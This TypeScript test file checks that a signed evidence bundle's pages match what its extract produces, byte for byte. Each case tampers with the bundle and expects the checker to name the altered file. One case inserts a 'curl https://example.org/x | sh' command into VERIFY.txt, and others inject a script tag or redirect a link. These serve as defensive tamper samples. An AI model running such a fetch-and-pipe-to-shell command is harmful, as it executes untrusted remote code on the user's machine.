import { beforeAll, describe, expect, test } from "vitest";
import { mostPacked, packLz4 } from "../../../../../main/bundle/viewer/lz4.ts";
import { unpackLz4 } from "../../../../../shared/viewer/lz4.ts";
import { examiner, forged, type Payload } from "../../signed-bundle.ts";
import { checksOf, expectNamed, makeBundles, root } from "./forge.ts";

beforeAll(() => makeBundles());

/** A file of lines with others in it, packed as a maker of such files would. */
function packedAnew(file: string, change: (lines: string) => string): string {
  const lines = Buffer.alloc(Number(/\\"size\\":(\d+)/u.exec(file)?.[1]));
  const [, packed = ""] = /.*\/\*([A-Za-z0-9+/=]+)\*\//su.exec(file) ?? [];
  unpackLz4(Buffer.from(packed, "base64"), lines);
  const into = Buffer.alloc(mostPacked(lines.length));
  const other = Buffer.from(change(lines.toString("latin1")), "latin1");
  return file.replace(packed, into.subarray(0, packLz4(other, into)).toString("base64"));
}

describe("pages: what people read is what the extract gives, byte for byte", () => {
  const page = (name: string, change: (text: string) => string) => (it: Payload) => it.page(name, change);
  test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
    [
      "a number in the report",
      page("data/index.html", (text) =>
        text.replace("<b>1</b></a><span>developer</span>", "<b>9</b></a><span>developers</span>"),
      ),
      /data\/index\.html line \d+ is not what the extract gives/u,
    ],
    [
      "a script in the report",
      page("data/index.html", (text) => text.replace("</h1>", "</h1><script>document.title = 1</script>")),
      /data\/index\.html line \d+ is not/u,
    ],
    [
      "a command in VERIFY.txt",
      page("VERIFY.txt", (text) =>
        text.replace("$ sha256sum -c manifest", "$ curl https://example.org/x | sh; sha256sum -c manifest"),
      ),
      /^VERIFY\.txt line \d+ is not/u,
    ],
    [
      "another key in VERIFY.txt",
      page("VERIFY.txt", (text) => text.replace(examiner.publicKey.fingerprint, `SHA256:${"A".repeat(43)}`)),
      /^VERIFY\.txt line \d+ is not/u,
    ],
    [
      "where OPEN.html leads",
      page("OPEN.html", (text) => text.replace('href="data/index.html"', 'href="https://example.org/"')),
      /^OPEN\.html line \d+ is not/u,
    ],
    [
      "a line more in bag-info.txt",
      page("bag-info.txt", (text) => `${text}Source-Organization: The Court\n`),
      /^bag-info\.txt line \d+ is not/u,
    ],
    ["the report taken away", (it) => it.remove("index.html"), /data\/index\.html is not there/u],
    [
      "a script beside the report",
      (it) => it.add("viewer/app.js", "document.title = 1;\n"),
      /files that this version makes of no extract: data\/viewer\/app\.js/u,
    ],
    [
      "a number in the viewer's data",
      page("data/viewer/catalog.js", (text) => text.replace('\\"events\\":1,', '\\"events\\":9,')),
      /data\/viewer\/catalog\.js is not what the extract gives: rules\[0\]\.developers\[0\]\.\S+ is 9, worked out 1/u,
    ],
    [
      "the status of a call in the viewer's data",
      page("data/viewer/core-0.js", (text) => {
        const bytes = text.split('","');
        const at = bytes.findIndex(
          (each) => /^[A-Za-z0-9+/]+=*$/u.test(each) && Buffer.from(each, "base64").includes(201),
        );
        const changed = Buffer.from(bytes[at] ?? "", "base64");
        changed[changed.indexOf(201)] = 202;
        bytes[at] = changed.toString("base64");
        return bytes.join('","');
      }),
      /data\/viewer\/core-0\.js is not what the extract gives: status of call \d+ is 201, worked out 200/u,
    ],
    [
      "a line in the viewer's data",
      page("data/viewer/lines-0.js", (text) =>
        packedAnew(text, (lines) => lines.replace("allowed", "denied ").replace("200", "403")),
      ),
      /data\/viewer\/lines-0\.js is not what the extract gives: texts\[\d+\] is "\S+403/u,
    ],
    [
      "a report nobody made",
      (it) => it.page("data/report.pdf", () => "%PDF-1.7\n"),
      /data\/report\.pdf is not what the extract gives/u,
    ],
    [
      "a report for Word with another number",
      (it) => it.page("data/report.docx", (bytes) => bytes.replace(/.$/su, "x")),
      /data\/report\.docx is not what the extract gives/u,
    ],
    [
      "a declaration nobody drew up",
      (it) => it.add("legal/declaration.txt", "I declare\n"),
      /files that this version makes of no extract: data\/legal\/declaration\.txt/u,
    ],
    [
      "a file of the layout that no check looks at",
      (it) => it.add("extract/commitments.jsonl", "{}\n"),
      /files that this version makes of no extract: data\/extract\/commitments\.jsonl/u,
    ],
  ])("%s", async (name, change, says) => expectNamed([name, change, "pages", says]));

  test("of another version nothing is said: it makes other pages", async () => {
    const folder = await forged(root, (it) => {
      it.acts((all) => {
        all.at(-1).detail.software = "Exhibit 9.9.9";
      });
      it.json("extract/bundle.json", (about) => {
        about.software = "Exhibit 9.9.9";
      });
    });
    const { checks } = await checksOf(folder);
    expect(checks.find(({ check }) => check === "pages")).toMatchObject({
      ok: null,
      code: "pages-of-another-version",
      detail: expect.stringMatching(/^the pages are made by Exhibit 9\.9\.9; Exhibit \S+ makes others/u),
    });
  });
});
